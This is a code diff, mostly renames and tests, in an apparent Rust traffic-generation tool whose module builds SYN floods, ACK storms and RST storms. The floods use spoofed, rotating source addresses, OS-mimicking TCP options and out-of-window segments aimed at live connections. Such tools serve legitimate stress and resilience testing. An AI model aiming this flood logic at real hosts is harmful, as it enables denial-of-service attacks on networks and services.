@@ -1,11 +1,11 @@
-//! Floods of whole segments: from templates, of which a packet patches a few words and their part of the sums.
+//! Floods of whole segments: from templates, of which a packet patches a few fields and their part of the sums.
 
 use hioload_device::{Device, checksum};
 
-use crate::line::Line;
-use crate::plan::Kind;
+use crate::plan::AttackKind;
 use crate::rng::Rng;
 use crate::sources::Sources;
+use crate::tx::TxQueue;
 use crate::wire::{Address, Header, Link, Live, TCP_HEADER, flag, fold};
 
 /// Ethernet with a tag, IPv6, TCP with all the options there can be.
@@ -28,7 +28,7 @@ const MACOS: [u8; 24] = [
 
 /// What differs between the segments of a template.
 #[derive(Clone, Copy)]
-struct Words {
+struct Fields {
     source: Address,
     port: u16,
     seq: u32,
@@ -84,11 +84,11 @@ impl Template {
 
     /// Writes a segment; gives its length.
     #[inline]
-    fn stamp(&self, out: &mut [u8], words: &Words) -> usize {
+    fn stamp(&self, out: &mut [u8], fields: &Fields) -> usize {
         let out = &mut out[..self.len];
         out.copy_from_slice(&self.bytes[..self.len]);
         let halves = |word: u32| u64::from(word >> 16) + u64::from(word & 0xffff);
-        let source = words.source;
+        let source = fields.source;
         let source_sum = if self.v6 {
             out[self.ip + 8..self.ip + 24].copy_from_slice(&source.to_be_bytes());
             let part = |shift: u32| halves((source >> shift) as u32);
@@ -96,24 +96,24 @@ impl Template {
         } else {
             let sum = halves(source as u32);
             out[self.ip + 12..self.ip + 16].copy_from_slice(&(source as u32).to_be_bytes());
-            out[self.ip + 4..self.ip + 6].copy_from_slice(&words.id.to_be_bytes());
-            let header = !fold(self.ip_sum + sum + u64::from(words.id));
+            out[self.ip + 4..self.ip + 6].copy_from_slice(&fields.id.to_be_bytes());
+            let header = !fold(self.ip_sum + sum + u64::from(fields.id));
             out[self.ip + 10..self.ip + 12].copy_from_slice(&header.to_be_bytes());
             sum
         };
         let mut sum = self.tcp_sum
             + source_sum
-            + u64::from(words.port)
-            + halves(words.seq)
-            + halves(words.ack);
+            + u64::from(fields.port)
+            + halves(fields.seq)
+            + halves(fields.ack);
         let tcp = self.tcp;
-        out[tcp..tcp + 2].copy_from_slice(&words.port.to_be_bytes());
-        out[tcp + 4..tcp + 8].copy_from_slice(&words.seq.to_be_bytes());
-        out[tcp + 8..tcp + 12].copy_from_slice(&words.ack.to_be_bytes());
+        out[tcp..tcp + 2].copy_from_slice(&fields.port.to_be_bytes());
+        out[tcp + 4..tcp + 8].copy_from_slice(&fields.seq.to_be_bytes());
+        out[tcp + 8..tcp + 12].copy_from_slice(&fields.ack.to_be_bytes());
         if let Some(at) = self.timestamp {
             // At an even offset, as it is in all of the options above: so it is a word of the sum.
-            out[at..at + 2].copy_from_slice(&words.id.to_be_bytes());
-            sum += u64::from(words.id);
+            out[at..at + 2].copy_from_slice(&fields.id.to_be_bytes());
+            sum += u64::from(fields.id);
         }
         out[tcp + 16..tcp + 18].copy_from_slice(&(!fold(sum)).to_be_bytes());
         self.len
@@ -137,7 +137,7 @@ fn stride(len: u64) -> u64 {
 
 /// A flood on one lcore.
 pub(crate) struct Flood {
-    kind: Kind,
+    kind: AttackKind,
     /// Percent of the packets that go to the load's own connections.
     live: u8,
     rng: Rng,
@@ -147,7 +147,7 @@ pub(crate) struct Flood {
 }
 
 impl Flood {
-    pub(crate) fn new(kind: Kind, seed: u64, live: u8, sources: &Sources) -> Self {
+    pub(crate) fn new(kind: AttackKind, seed: u64, live: u8, sources: &Sources) -> Self {
         let mut rng = Rng::new(seed);
         let walk = (rng.below(sources.len()), stride(sources.len()));
         Self {
@@ -160,16 +160,16 @@ impl Flood {
     }
 
     /// The way to the target is known, or another one.
-    pub(crate) fn aim(&mut self, link: &Link) {
+    pub(crate) fn set_link(&mut self, link: &Link) {
         self.templates.clear();
         let (push, window) = (flag::ACK | flag::PSH, 512);
         match self.kind {
-            Kind::SynFlood => self.templates.extend([
+            AttackKind::SynFlood => self.templates.extend([
                 Template::new(link, flag::SYN, 64_240, 64, &LINUX, 0),
                 Template::new(link, flag::SYN, 64_240, 128, &WINDOWS, 0),
                 Template::new(link, flag::SYN, 65_535, 64, &MACOS, 0),
             ]),
-            Kind::AckStorm => self.templates.extend([
+            AttackKind::AckStorm => self.templates.extend([
                 Template::new(link, flag::ACK, window, 64, &[], 0),
                 Template::new(link, push, window, 64, &[], PAYLOAD),
                 // It would close the window, too.
@@ -184,32 +184,32 @@ impl Flood {
     }
 
     /// Sends what is due.
-    pub(crate) fn act<D: Device>(
+    pub(crate) fn send_due<D: Device>(
         &mut self,
-        line: &mut Line<'_, D>,
+        tx: &mut TxQueue<'_, D>,
         sources: &Sources,
         live: Option<&Live>,
     ) {
-        while line.is_open() {
+        while tx.is_open() {
             let dice = self.rng.next();
             let which = (dice >> 32) as usize % 3;
             let aimed =
                 live.filter(|live| live.settled && self.live > 0 && self.rng.chance(self.live));
-            let (which, words) = match aimed {
-                Some(live) => (which, self.aimed(live, which)),
-                None => self.blind(sources, which, dice as u16),
+            let (which, fields) = match aimed {
+                Some(live) => (which, self.at_live(live, which)),
+                None => self.unrelated(sources, which, dice as u16),
             };
             let Some(template) = self.templates.get(which) else {
                 return;
             };
-            line.send(template.len, |out| template.stamp(out, &words));
+            tx.send(template.len, |out| template.stamp(out, &fields));
         }
     }
 
     /// A segment of no connection.
     #[inline]
-    fn blind(&mut self, sources: &Sources, which: usize, id: u16) -> (usize, Words) {
-        let index = if self.kind == Kind::SynFlood {
+    fn unrelated(&mut self, sources: &Sources, which: usize, id: u16) -> (usize, Fields) {
+        let index = if self.kind == AttackKind::SynFlood {
             // None comes again before all have been there.
             self.walk.0 = (self.walk.0 + self.walk.1) % sources.len();
             self.walk.0
@@ -218,11 +218,11 @@ impl Flood {
         };
         let (source, port) = sources.get(index);
         let numbers = self.rng.next();
-        let words = Words {
+        let fields = Fields {
             source,
             port,
             seq: numbers as u32,
-            ack: if self.kind == Kind::SynFlood {
+            ack: if self.kind == AttackKind::SynFlood {
                 0
             } else {
                 (numbers >> 32) as u32
@@ -230,24 +230,24 @@ impl Flood {
             id,
         };
         // A storm of resets has SYNs for what is open alone: others would be a flood of SYNs.
-        let which = if self.kind == Kind::RstStorm {
+        let which = if self.kind == AttackKind::RstStorm {
             which & 1
         } else {
             which
         };
-        (which, words)
+        (which, fields)
     }
 
     /// A segment of a connection of the load's that a receiver has to refuse. What was sent on it last is `live`, so the next byte
     /// expected lies before or at `live.next`.
-    fn aimed(&mut self, live: &Live, which: usize) -> Words {
+    fn at_live(&mut self, live: &Live, which: usize) -> Fields {
         let numbers = self.rng.next();
         let ahead = 1 + (numbers as u32 & 0x7fff);
         let inside = numbers >> 62 & 1 == 0;
         let (seq, ack) = match self.kind {
             // In the window, with an acknowledgement of what was never sent, or long ago: not even its payload counts (RFC 5961
             // §5).
-            Kind::AckStorm => {
+            AttackKind::AckStorm => {
                 let off = FAR + (numbers >> 32) as u32 % FAR;
                 let ack = if numbers >> 63 == 0 {
                     live.ack.wrapping_add(off)
@@ -265,7 +265,7 @@ impl Flood {
             _ if inside => (live.next.wrapping_add(ahead), live.ack),
             _ => (live.next.wrapping_add(FAR + ahead), live.ack),
         };
-        Words {
+        Fields {
             source: live.source,
             port: live.port,
             seq,
@@ -282,8 +282,8 @@ mod tests {
 
     fn links() -> [Link; 3] {
         let link = Link {
-            there: [2, 0, 0, 0, 0, 1],
-            here: [2, 0, 0, 0, 0, 2],
+            next_hop_mac: [2, 0, 0, 0, 0, 1],
+            own_mac: [2, 0, 0, 0, 0, 2],
             tag: None,
             v6: false,
             target: 0x0a4d_0002,
@@ -329,7 +329,7 @@ mod tests {
                 let template = Template::new(&link, flags, 512, 64, options, payload);
                 for _ in 0..500 {
                     let numbers = rng.next();
-                    let words = Words {
+                    let fields = Fields {
                         source: if link.v6 {
                             u128::from(rng.next()) << 64 | u128::from(rng.next())
                         } else {
@@ -341,18 +341,18 @@ mod tests {
                         id: rng.next() as u16,
                     };
                     let mut out = [0; LONGEST];
-                    let len = template.stamp(&mut out, &words);
+                    let len = template.stamp(&mut out, &fields);
                     let parts = Parts::of(&out[..len]).expect("an IP packet");
                     assert_eq!((parts.end, parts.protocol), (len, TCP));
                     let segment = Segment::of(&out, &parts).expect("a segment");
-                    assert_eq!((segment.source, segment.from), (words.source, words.port));
+                    assert_eq!((segment.source, segment.from), (fields.source, fields.port));
                     assert_eq!((segment.destination, segment.to), (link.target, 9001));
-                    assert_eq!((segment.seq, segment.ack), (words.seq, words.ack));
+                    assert_eq!((segment.seq, segment.ack), (fields.seq, fields.ack));
                     assert_eq!((segment.flags, segment.window), (flags, 512));
                     assert_eq!(segment.payload.len(), payload);
                     let tcp = &out[parts.transport..len];
                     let sum =
-                        link.pseudo(words.source, TCP, tcp.len()) + u64::from(checksum::sum(tcp));
+                        link.pseudo(fields.source, TCP, tcp.len()) + u64::from(checksum::sum(tcp));
                     assert_eq!(fold(sum), 0xffff, "of TCP");
                     if !link.v6 {
                         let header = &out[parts.ip..parts.transport];
